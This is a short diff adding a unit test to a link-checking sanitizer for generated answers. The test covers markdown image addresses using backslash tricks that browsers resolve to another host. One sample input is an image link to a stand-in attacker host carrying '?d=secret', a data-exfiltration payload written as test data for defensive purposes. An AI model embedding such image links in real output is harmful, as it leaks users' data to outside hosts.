@@ -127,6 +127,12 @@ describe('checkAnswerLinks', () => {
     expect(checked.removed).toEqual([]);
   });
 
+  it("takes an image whose address a browser reads as another host's as from elsewhere", () => {
+    const answer = '![a](/\\evil.example/faqs/?d=secret) ![b](\\\\evil.example/faqs/) ![c](/faqs/)';
+    const checked = checkAnswerLinks(answer, site);
+    expect(checked.text).toBe('[image: a] [image: b] ![c](/faqs/)');
+  });
+
   it('leaves code, web and e-mail links to other sites alone', () => {
     const answer = [
       'Run `[x](/nope)` or see [MDN](https://developer.mozilla.org/x) and [mail](mailto:dev@acme.dev).',
